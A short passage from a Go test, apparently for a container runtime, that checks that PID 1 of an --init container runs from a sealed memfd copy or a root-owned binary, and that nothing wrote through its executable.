		t.Errorf("the receiver wrote through PID 1's exe (%v)", b["exe"])
	}
	if exe := a["pid1-exe"]; exe != "" && !strings.HasPrefix(exe, "/memfd:") && !rootOwned(t, initBin) {
		t.Errorf("PID 1 of an --init container runs %s, not a sealed copy", exe)
	}
}
